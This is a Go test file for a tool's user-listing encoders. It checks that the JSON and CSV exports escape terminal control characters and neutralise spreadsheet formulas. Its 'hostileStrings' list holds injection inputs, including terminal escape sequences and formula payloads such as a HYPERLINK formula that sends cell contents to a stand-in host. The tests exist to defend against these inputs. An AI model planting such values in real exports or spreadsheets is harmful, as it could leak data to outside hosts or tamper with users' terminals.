package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/ctitui/ctitui/internal/textsafe"
	"github.com/ctitui/ctitui/internal/transfer"
	"github.com/ctitui/ctitui/internal/user"
)

// JSON output keeps every character but shows none that a terminal acts on.
func TestMarshalJSONEscapesInvisibleCharacters(t *testing.T) {
	for _, in := range []string{"plain@x.org", "csi\u009b31m@x.org", "rtl\u202e@x.org", "tag\U000E0041@x.org", "esc\x1b[2J", "a<b>&c"} {
		b, err := marshalJSON(map[string]string{"email": in})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range string(b) {
			if r < 0x20 || r >= 0x7f && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Errorf("marshalJSON(%q) = %s keeps %U raw", in, b, r)
			}
		}
		var back map[string]string
		if err := json.Unmarshal(b, &back); err != nil || back["email"] != in {
			t.Errorf("marshalJSON(%q) = %s reads back as %q, %v", in, b, back["email"], err)
		}
	}
}

// hostileStrings are the texts the hand-written encoders must treat exactly
// as encoding/json and encoding/csv do.
var hostileStrings = []string{
	"", "plain@x.org", "a<b>&c", `quote"d`, `back\slash`, "tab\there", "nl\nand\rcr",
	"\b\f\x00\x01\x1f", "del\x7f", "csi\u009b31m", "nel\u0085", "rtl\u202e", "bom\ufeff",
	"ls\u2028ps\u2029", "tag\U000E0041", "emoji😀", "repl\ufffd", "bad\xff\xfe", "cut\xe2\x82",
	"surrogate\xed\xa0\x80", "overlong\xc0\xaf", " lead space", "\u00a0nbsp", "\u3000ideo",
	`\.`, "a,b", "dagný.hansen+1@team-35.example.org", "\x1b[2J",
	// Formulas, and text that only looks escaped.
	"=1+1", `=HYPERLINK("http://x/?"&A1)`, "+1", "-bob@x.org", "@SUM(A1)", "\t=1", "\r=1", "\x00=1",
	"'=1", "''-x", "'", "'plain", "=a,b", "-\"q\"", "'\r\n=", "-a\nb", "\n=1", "@\r",
	// A lone CR, which csv.Writer quotes as it does a line break.
	"lone\rcr", "end\r",
}

// sampleUsers covers every field's forms: no roles, several, zero and set
// times, times in other zones and years.
func sampleUsers() []user.User {
	at := time.Date(2025, 12, 31, 23, 54, 25, 67_891_234, time.UTC)
	east := time.FixedZone("east", 9*3600)
	var users []user.User
	for i, s := range hostileStrings {
		u := user.User{ID: s, Email: s, FailedLogins: i - 3, CreatedAt: at.Add(time.Duration(i) * time.Hour), UpdatedAt: at}
		switch i % 4 {
		case 0:
		case 1:
			u.Roles = []user.Role{user.Role(s)}
			u.LastLoginAt = at.In(east)
		case 2:
			u.Roles = []user.Role{"admin", user.Role(s), "viewer"}
			u.DisabledAt = at
			u.LockedUntil = time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)
		case 3:
			u.Roles = []user.Role{"analyst"}
			u.CreatedAt = time.Time{}
			u.LockedUntil = time.Date(-1, 1, 1, 0, 0, 0, 0, time.UTC)
			// A year before 1 formats with a leading minus, which a
			// spreadsheet would compute with.
			u.UpdatedAt = time.Date(-12, 3, 4, 5, 6, 7, 0, time.UTC)
			u.LastLoginAt = time.Date(10001, 1, 1, 0, 0, 0, 0, time.UTC)
		}
		users = append(users, u)
	}
	return users
}

// fieldsNamed returns the transfer.Fields with these names.
func fieldsNamed(t testing.TB, names ...string) []*transfer.Field {
	t.Helper()
	var fields []*transfer.Field
	for _, name := range names {
		for _, f := range transfer.Fields {
			if f.Name == name {
				fields = append(fields, f)
			}
		}
	}
	if len(fields) != len(names) {
		t.Fatalf("fields %v: found %d", names, len(fields))
	}
	return fields
}

// fieldNames are the names of fields, as a CSV header has them.
func fieldNames(fields []*transfer.Field) []string {
	names := make([]string, len(fields))
	for i, f := range fields {
		names[i] = f.Name
	}
	return names
}

// textCells are the texts of u's fields, as they are.
func textCells(u user.User, fields []*transfer.Field) []string {
	cells := make([]string, len(fields))
	for i, f := range fields {
		cells[i] = f.Text(&u)
	}
	return cells
}

// referenceJSON is u as a JSON object of fields, each value encoded by
// encoding/json: what transfer.AppendJSON must write.
func referenceJSON(t testing.TB, u user.User, fields []*transfer.Field) []byte {
	t.Helper()
	b := []byte("{")
	for i, f := range fields {
		if i > 0 {
			b = append(b, ',')
		}
		v, err := marshalJSON(f.JSONValue(&u, func(s string) string { return s }))
		if err != nil {
			t.Fatal(err)
		}
		b = append(append(b, `"`+f.Name+`":`...), v...)
	}
	return append(b, '}')
}

// referenceCSV is cells as csv.Writer writes them, each escaped with
// transfer.EscapeFormula and, for a terminal, textsafe.Line: what
// transfer.AppendCSV must write.
func referenceCSV(t testing.TB, cells []string, terminal bool) []byte {
	t.Helper()
	for i, c := range cells {
		cells[i] = transfer.EscapeFormula(c)
		if terminal {
			cells[i] = textsafe.Line(cells[i])
		}
	}
	var b bytes.Buffer
	cw := csv.NewWriter(&b)
	cw.Write(cells) // an error shows at Flush
	cw.Flush()
	if err := cw.Error(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// The encoders that write listings and exports give the bytes of the
// encoding/json and csv.Writer paths they replaced, for every list of
// fields a program reads.
func TestAppendUserMatchesReference(t *testing.T) {
	for _, u := range sampleUsers() {
		checkAppendUser(t, u)
	}
}

func checkAppendUser(t *testing.T, u user.User) {
	t.Helper()
	if got, want := transfer.AppendJSON(nil, &u, transfer.JSONFields), referenceJSON(t, u, transfer.JSONFields); !bytes.Equal(got, want) {
		t.Errorf("AppendJSON(%+v) =\n%s\nwant\n%s", u, got, want)
	}
	for _, fields := range [][]*transfer.Field{transfer.CSVFields, transfer.ExportFields} {
		for _, terminal := range []bool{false, true} {
			want := referenceCSV(t, textCells(u, fields), terminal)
			got := transfer.AppendCSV(nil, &u, fields, terminal)
			if !bytes.Equal(got, want) {
				t.Errorf("AppendCSV(%+v, %v, terminal %v) = %q; want %q", u, fieldNames(fields), terminal, got, want)
			}
			for _, row := range rawCells(t, string(got)) {
				for _, cell := range row {
					if formulaCell(cell) {
						t.Errorf("AppendCSV(%+v) = %q: cell %q runs as a formula", u, got, cell)
					}
				}
			}
		}
	}
}

func checkJSONString(t *testing.T, s string) {
	t.Helper()
	email := fieldsNamed(t, "email")
	u := user.User{Email: s}
	if got, want := transfer.AppendJSON(nil, &u, email), referenceJSON(t, u, email); !bytes.Equal(got, want) {
		t.Fatalf("AppendJSON of the email %q = %s; want %s", s, got, want)
	}
}

// Every code point, every byte alone and every two-byte sequence encode as
// encoding/json followed by escapeInvisible encodes them.
func TestAppendJSONStringEveryCodePoint(t *testing.T) {
	var sb strings.Builder
	for r := rune(0); r <= utf8.MaxRune; r++ {
		sb.WriteRune(r) // surrogates become U+FFFD, as in any Go string
		if r%512 == 511 || r == utf8.MaxRune {
			checkJSONString(t, sb.String())
			sb.Reset()
		}
	}
	for b := 0; b < 256; b++ {
		for c := 0; c < 256; c++ {
			sb.WriteByte(byte(b))
			sb.WriteByte(byte(c))
			sb.WriteByte('x')
		}
		checkJSONString(t, sb.String())
		checkJSONString(t, string(rune(b))+"\xed\xa0\x80"+string([]byte{byte(b)}))
		sb.Reset()
	}
}

func TestUserWriterStreams(t *testing.T) {
	users := sampleUsers()
	for _, n := range []int{0, 1, len(users)} {
		// JSON: one array, one user a line.
		var want bytes.Buffer
		if n == 0 {
			want.WriteString("[]\n")
		}
		for i, u := range users[:n] {
			want.WriteString(map[bool]string{true: "[\n", false: ",\n"}[i == 0])
			want.Write(referenceJSON(t, u, transfer.JSONFields))
		}
		if n > 0 {
			want.WriteString("\n]\n")
		}
		if got := writeUsers(t, formatJSON, users[:n]); got != want.String() {
			t.Errorf("JSON listing of %d users =\n%s\nwant\n%s", n, got, want.String())
		}

		// CSV: the header, then a record per user.
		want.Reset()
		want.Write(referenceCSV(t, fieldNames(transfer.CSVFields), false))
		for _, u := range users[:n] {
			want.Write(referenceCSV(t, textCells(u, transfer.CSVFields), false))
		}
		if got := writeUsers(t, formatCSV, users[:n]); got != want.String() {
			t.Errorf("CSV listing of %d users =\n%s\nwant\n%s", n, got, want.String())
		}
	}
}

func writeUsers(t *testing.T, f format, users []user.User) string {
	t.Helper()
	var out bytes.Buffer
	w := newUserWriter(&out, f, false)
	for _, u := range users {
		if err := w.Write(u); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// FuzzAppendUser holds the listing encoders to the encoding/json and
// csv.Writer paths for any text in any field.
func FuzzAppendUser(f *testing.F) {
	for _, s := range hostileStrings {
		f.Add(s, s, s, "", int64(1767225265067), int64(0), 0)
	}
	f.Fuzz(func(t *testing.T, id, email, role1, role2 string, created, lastLogin int64, failed int) {
		u := user.User{ID: id, Email: email, FailedLogins: failed,
			CreatedAt: time.UnixMilli(created), UpdatedAt: time.UnixMilli(created / 2), LastLoginAt: time.UnixMilli(lastLogin)}
		if role1 != "" {
			u.Roles = append(u.Roles, user.Role(role1))
		}
		if role2 != "" {
			u.Roles = append(u.Roles, user.Role(role2))
		}
		if failed%2 == 0 {
			u.DisabledAt, u.LockedUntil = u.CreatedAt, u.LastLoginAt
		}
		checkJSONString(t, email)
		checkAppendUser(t, u)
	})
}

// BenchmarkAppendUserCSV is the per-row cost of a CSV listing: a typical
// user, whose cells need no formula escape.
func BenchmarkAppendUserCSV(b *testing.B) {
	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
	u := user.User{ID: "0190b5c4-b11b-7b9e-9313-373b6743a848", Email: "dagny.hansen+1@team-35.example.org",
		Roles: []user.Role{user.RoleAnalyst}, CreatedAt: at, UpdatedAt: at, LastLoginAt: at}
	var buf []byte
	for b.Loop() {
		buf = transfer.AppendCSV(buf[:0], &u, transfer.CSVFields, false)
	}
}

// BenchmarkAppendUserJSON is the per-row cost of a JSON listing: a typical
// user, whose texts need no escape.
func BenchmarkAppendUserJSON(b *testing.B) {
	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
	u := user.User{ID: "0190b5c4-b11b-7b9e-9313-373b6743a848", Email: "dagny.hansen+1@team-35.example.org",
		Roles: []user.Role{user.RoleAnalyst}, CreatedAt: at, UpdatedAt: at, LastLoginAt: at}
	var buf []byte
	for b.Loop() {
		buf = transfer.AppendJSON(buf[:0], &u, transfer.JSONFields)
	}
}
